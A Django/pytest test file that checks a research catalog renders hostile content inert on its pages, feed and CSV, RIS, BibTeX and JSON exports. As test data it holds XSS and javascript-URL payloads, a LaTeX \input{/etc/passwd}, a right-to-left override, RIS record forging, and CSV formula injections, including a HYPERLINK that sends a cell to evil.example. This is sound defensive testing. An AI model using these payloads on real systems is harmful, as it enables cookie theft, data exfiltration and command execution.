"""Hostile catalog content is stored as text and comes out inert on every page and export.

Content is stored both directly (factories) and the way curators store it: the admin's add
forms and the BibTeX import.
"""

import csv
import html
import io
import json
import re
from urllib.parse import quote
from xml.etree import ElementTree

import bibtexparser
import pytest
from bibtexparser.middlewares import LatexDecodingMiddleware
from django.conf import settings
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.forms import modelform_factory
from django.test import Client, TestCase, override_settings
from django.urls import reverse

from studies import bibtex, exports
from studies.exports import FORMULA_PREFIXES
from studies.models import Condition, Source, Study
from tests.factories import make_condition, make_mention, make_source, make_study
from tests.static_files import uncollected_static

SCRIPT = "<script>alert('x')</script>"
JS_URL = "javascript:alert(document.cookie)"
LATEX = r"\href{javascript:alert(1)}{click} \input{/etc/passwd} $x^2$ {unbalanced"
RLO = "\u202egnp.exe"  # right-to-left override: displays as "exe.png"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|'/c calc'!A0", "@SUM(1+1)"]
HUGE = "LDN " * 25_000  # 100 kB: more than any field may hold (studies/limits.py)
LONGEST = "LDN " * 250  # 1,000 characters: the longest title the catalog keeps

HOSTILE_TITLES = [
    f"{SCRIPT} Low-dose naltrexone",
    LATEX,
    f"Fibromyalgia {RLO}",
    *FORMULAS,
    "Line one\nER  - \r\nTY  - JOUR",  # a newline that would forge a RIS record
    LONGEST,
]


UNESCAPES = {escaped: char for char, escaped in bibtex.LATEX_ESCAPES.items()}
ESCAPED = re.compile("|".join(re.escape(e) for e in sorted(UNESCAPES, key=len, reverse=True)))


def latex_unescape(text):
    return ESCAPED.sub(lambda m: UNESCAPES[m.group(0)], text)


def hostile_studies():
    condition = make_condition(name=f"{SCRIPT} pain", description="<img src=x onerror=alert(1)>")
    source = make_source(title=f"{SCRIPT} blog", url=JS_URL, description=LATEX)
    studies = []
    for n, title in enumerate(HOSTILE_TITLES):
        study = make_study(
            conditions=[condition],
            title=title,
            authors=[FORMULAS[0], f"{SCRIPT}", "O'Brien, {J}"],
            journal=f"-{SCRIPT}",
            url=JS_URL,
            summary=f"{LATEX}\n{SCRIPT}\n{FORMULAS[1]}",
            year=2000 + n,
        )
        make_mention(study, source, quote=SCRIPT)
        studies.append(study)
    return condition, source, studies


class HostilePageTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.condition, cls.source, cls.studies = hostile_studies()

    def assert_inert(self, response):
        assert response.status_code == 200
        body = response.content.decode()
        assert SCRIPT not in body
        assert "<img src=x" not in body
        assert not re.search(r"""href=["']?\s*javascript:""", body, re.IGNORECASE)
        assert "<script" not in body.lower() or "<script src=" in body.lower()
        # The policy forbids inline script even if some escaping were ever missed.
        assert "script-src 'self'" in response["Content-Security-Policy"]

    def test_study_pages(self):
        for study in self.studies:
            response = self.client.get(study.get_absolute_url())
            self.assert_inert(response)
        # The text is shown, escaped, rather than dropped.
        response = self.client.get(self.studies[0].get_absolute_url())
        assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in response.content.decode()

    def test_condition_page(self):
        self.assert_inert(self.client.get(self.condition.get_absolute_url()))

    def test_source_page(self):
        self.assert_inert(self.client.get(self.source.get_absolute_url()))

    def test_home(self):
        self.assert_inert(self.client.get("/"))


def test_admin_forms_refuse_javascript_urls():
    for model in (Study, Source):
        form = modelform_factory(model, fields=["url"])(data={"url": JS_URL})
        assert not form.is_valid()
        assert "url" in form.errors


def export(name):
    return "".join(exports.FORMATS[name].stream(Study.objects.order_by("year", "pk")))


@pytest.mark.django_db
class TestExports:
    @pytest.fixture(autouse=True)
    def catalog(self):
        hostile_studies()
        self.studies = list(Study.objects.for_export().order_by("year", "pk"))

    def test_csv_cells_cannot_start_a_formula(self):
        text = export("csv")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == len(HOSTILE_TITLES)
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(FORMULA_PREFIXES), (column, value[:50])
        titles = [row["title"] for row in rows]
        assert titles[3] == "'" + FORMULAS[0]
        assert titles[-1] == LONGEST

    def test_ris_values_stay_on_one_line(self):
        text = export("ris")
        lines = [line for line in text.split("\r\n") if line]
        assert all(re.match(r"^[A-Z][A-Z0-9]  - ", line) for line in lines), [
            line[:60] for line in lines if not re.match(r"^[A-Z][A-Z0-9]  - ", line)
        ]
        assert text.count("TY  - ") == len(HOSTILE_TITLES)
        assert text.count("ER  - ") == len(HOSTILE_TITLES)
        assert "\n" not in text.replace("\r\n", "")

    def test_bibtex_parses_back_to_the_same_text(self):
        text = export("bibtex")
        library = bibtexparser.parse_string(text)
        assert not library.failed_blocks
        assert len(library.entries) == len(self.studies)
        for entry, study in zip(library.entries, self.studies, strict=True):
            assert entry.key == study.slug
            # The field is exactly what was written, braces balanced, nothing injected...
            assert entry["title"] == bibtex.latex_escape(study.title)
            # ...and undoing the escapes gives the title back.
            assert latex_unescape(entry["title"]) == " ".join(study.title.split())

    @pytest.mark.xfail(
        strict=True,
        reason="pylatexenc, behind bibtexparser's LatexDecodingMiddleware, reads "
        r"\textbraceleft{} as '' and \textasciicircum{} as U+02C6: braces and carets are lost",
    )
    def test_bibtexparser_latex_decoding_gives_the_same_text(self):
        library = bibtexparser.parse_string(
            export("bibtex"), append_middleware=[LatexDecodingMiddleware()]
        )
        for entry, study in zip(library.entries, self.studies, strict=True):
            assert entry["title"] == " ".join(study.title.split())

    def test_json_is_valid_and_exact(self):
        data = json.loads(export("json"))
        assert [item["title"] for item in data] == [s.title for s in self.studies]
        assert data[0]["sources"][0]["quote"] == SCRIPT


# The same content entered the way curators enter it: the admin's add forms and the
# BibTeX import, then read back from every public page and every download.

ADMIN_ADD = {
    model: reverse(f"admin:studies_{model}_add") for model in ("study", "condition", "source")
}
IMPORT = reverse("admin:studies_study_import")
CONFIRM = reverse("admin:studies_study_import_confirm")
HOSTILE_BIB = f"""
@article{{imported-script,
  title = {{{SCRIPT} imported {RLO}}},
  author = {{{FORMULAS[0]} and O'Brien, J}},
  journal = {{-{SCRIPT}}},
  year = {{2019}},
  keywords = {{{SCRIPT} {RLO} pain}},
  url = {{https://example.org/?q=<script>}}
}}
@article{{imported-latex,
  title = {{{LATEX}}},
  year = {{2020}}
}}
@article{{imported-formula,
  title = {{{FORMULAS[1]}}},
  year = {{2021}}
}}
@article{{imported-huge,
  title = {{{HUGE}}},
  year = {{2022}}
}}
@article{{imported-jsurl,
  title = {{A study with a javascript link}},
  url = {{{JS_URL}}}
}}
"""


def inline_forms(prefixes=("outcomes", "effect_summaries", "claims", "mentions")):
    data = {}
    for prefix in prefixes:
        data |= {f"{prefix}-TOTAL_FORMS": "0", f"{prefix}-INITIAL_FORMS": "0"}
    return data


def isolated_text(body):
    """The page's text with every place that isolates bidirectional text taken out.

    What is left must hold no right-to-left override: there it could reverse the page's
    own text and markup around it.
    """
    # The citation and the BibTeX record, text to copy: an override there reaches the end of
    # the citation or of the BibTeX line only, and markers would be copied with the text.
    body = re.sub(r'<pre class="bibtex">.*?</pre>', "", body, flags=re.DOTALL)
    body = re.sub(r'<p class="reference">.*?</p>', "", body, flags=re.DOTALL)
    body = re.sub(r"<bdi>.*?</bdi>", "", body, flags=re.DOTALL)
    body = re.sub(r"\u2068[^\u2069]*\u2069", "", body)  # FSI…PDI, in the <title>
    return re.sub(r'"[^"<>]*"', '""', body)  # attribute values


class ThroughTheCuratorToolsTests(TestCase):
    @classmethod
    @override_settings(  # what tests/conftest.py sets, which runs after setUpTestData
        SECURE_SSL_REDIRECT=False, RATELIMIT_ENABLE=False, **uncollected_static()
    )
    def setUpTestData(cls):
        cls.admin = User.objects.create_superuser("admin", password="a long admin password")
        client = Client()
        client.force_login(cls.admin)
        response = client.post(
            ADMIN_ADD["condition"],
            {"name": f"{SCRIPT} pain {RLO}", "slug": "hostile-pain", "category": "pain"},
        )
        assert response.status_code == 302, response.context["adminform"].form.errors
        cls.condition = Condition.objects.get(slug="hostile-pain")
        source = {"title": f"{SCRIPT} blog {RLO}", "slug": "hostile-blog", "kind": "blog"}
        response = client.post(ADMIN_ADD["source"], source | {"url": JS_URL})
        assert response.status_code == 200
        assert "url" in response.context["adminform"].form.errors
        response = client.post(ADMIN_ADD["source"], source | {"url": "https://example.org/"})
        assert response.status_code == 302, response.context["adminform"].form.errors
        cls.source = Source.objects.get(slug="hostile-blog")

        cls.admin_results = {}
        for n, title in enumerate(HOSTILE_TITLES):
            data = inline_forms() | {
                "title": title,
                "slug": f"hostile-{n}",
                "design": "rct",
                "design_basis": "stated",
                "status": "published",
                "year": str(2000 + n),
                "authors": f"{FORMULAS[0]}\n{SCRIPT}\nO'Brien, {{J}}",
                "journal": f"-{SCRIPT}",
                "summary": f"{LATEX}\n{SCRIPT}\n{FORMULAS[1]}",
                "condition_tags-TOTAL_FORMS": "1",
                "condition_tags-INITIAL_FORMS": "0",
                "condition_tags-0-condition": str(cls.condition.pk),
                "condition_tags-0-basis": "study",
            }
            response = client.post(ADMIN_ADD["study"], data)
            cls.admin_results[title] = response.status_code
        response = client.post(
            IMPORT, {"file": SimpleUploadedFile("hostile.bib", HOSTILE_BIB.encode())}
        )
        assert response.status_code == 302  # to the import job's page, with the preview
        response = client.get(response.url)
        cls.import_preview = response.content.decode()
        response = client.post(CONFIRM, {"token": response.context["token"], "skip_errors": "1"})
        assert response.status_code == 302
        cls.studies = list(Study.objects.order_by("pk"))

    def test_the_admin_stores_each_hostile_title_as_text(self):
        for title, status_code in self.admin_results.items():
            assert status_code == 302, (title[:40], status_code)
        stored = Study.objects.filter(slug__startswith="hostile-")
        assert stored.count() == len(HOSTILE_TITLES)
        assert stored.get(slug="hostile-0").title == HOSTILE_TITLES[0]
        # The longest title too, less the trailing space the form strips.
        assert stored.get(slug=f"hostile-{len(HOSTILE_TITLES) - 1}").title == LONGEST.strip()

    def test_the_admin_refuses_a_title_over_the_limit_with_a_form_error(self):
        client = Client()
        client.force_login(self.admin)
        data = inline_forms() | {"title": HUGE, "slug": "huge", "design": "rct"}
        response = client.post(ADMIN_ADD["study"], data | {"status": "published"})
        assert response.status_code == 200
        assert response.context["adminform"].form.errors["title"] == [
            "Ensure this value has at most 1000 characters (it has 99999)."
        ]
        assert not Study.objects.filter(slug="huge").exists()

    def test_the_importer_refuses_what_it_cannot_store_and_says_why(self):
        # 99,999: BibTeX drops the title's trailing space.
        assert "the title is 99,999 characters long; the limit is 1,000" in self.import_preview
        assert "the url “javascript:alert(document.cookie)” is not a web address" in (
            self.import_preview
        )
        assert SCRIPT not in self.import_preview
        imported = Study.history.filter(history_change_reason="Imported from hostile.bib")
        # The LaTeX entry's unbalanced brace makes it an error too.
        assert sorted(imported.values_list("year", flat=True)) == [2019, 2021]
        assert imported.get(year=2019).url == "https://example.org/?q=<script>"

    def public_pages(self):
        pages = [
            "/",
            "/studies/",
            "/studies/?q=script",
            f"/studies/?q={quote(RLO)}",
            f"/studies/?q={quote(SCRIPT)}",
            "/conditions/",
            self.condition.get_absolute_url(),
            self.source.get_absolute_url(),
        ]
        return pages + [study.get_absolute_url() for study in self.studies]

    def test_every_public_page_renders_it_inert(self):
        for page in self.public_pages():
            response = self.client.get(page, follow=True)
            assert response.status_code == 200, page
            body = response.content.decode()
            assert SCRIPT not in body, page
            assert not re.search(r"<script(?![^>]*\bsrc=)", body, re.IGNORECASE), page
            assert not re.search(r"""href=["']?\s*javascript:""", body, re.IGNORECASE), page
            assert RLO not in isolated_text(body), page
        # The override is shown, isolated, rather than dropped.
        body = self.client.get(self.studies[0].get_absolute_url()).content.decode()
        assert f"<bdi>{html.escape(self.condition.name)}</bdi>" in body

    def test_the_feed_is_inert(self):
        response = self.client.get("/studies.atom")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/atom+xml")
        feed = ElementTree.fromstring(response.content)
        atom = "{http://www.w3.org/2005/Atom}"
        entries = feed.findall(f"{atom}entry")
        assert entries
        for link in feed.iter(f"{atom}link"):
            # Every link on the site's own address (SITE_URL), whatever a title holds.
            assert link.get("href").startswith(settings.SITE_URL + "/"), link.get("href")
        assert b"<script" not in response.content
        titles = {entry.findtext(f"{atom}title") for entry in entries}
        assert any(SCRIPT in title for title in titles)  # text, escaped in the XML

    def download(self, path):
        response = self.client.get(path)
        assert response.status_code == 200, path
        body = b"".join(response.streaming_content) if response.streaming else response.content
        return response["Content-Type"], body.decode()

    def test_csv_download_neutralises_formulas(self):
        content_type, text = self.download("/studies.csv")
        assert content_type.startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == len(self.studies)
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(FORMULA_PREFIXES), (column, value[:50])

    def test_ris_download_has_one_tag_per_line(self):
        content_type, text = self.download("/studies.ris")
        assert content_type.startswith("application/x-research-info-systems")
        lines = [line for line in text.split("\r\n") if line]
        assert all(re.match(r"^[A-Z][A-Z0-9]  - ", line) for line in lines)
        assert text.count("TY  - ") == text.count("ER  - ") == len(self.studies)

    def test_bibtex_downloads_parse_back(self):
        content_type, text = self.download("/studies.bib")
        assert content_type.startswith("application/x-bibtex")
        library = bibtexparser.parse_string(text)
        assert not library.failed_blocks
        assert {entry.key for entry in library.entries} == {s.slug for s in self.studies}
        for study in self.studies:
            _, text = self.download(reverse("studies:study_bibtex", args=[study.slug]))
            library = bibtexparser.parse_string(text)
            assert not library.failed_blocks
            [entry] = library.entries
            assert latex_unescape(entry["title"]) == " ".join(study.title.split())

    def test_json_download_is_valid_and_exact(self):
        content_type, text = self.download("/studies.json")
        assert content_type.startswith("application/json")
        titles = sorted(item["title"] for item in json.loads(text))
        assert titles == sorted(study.title for study in self.studies)
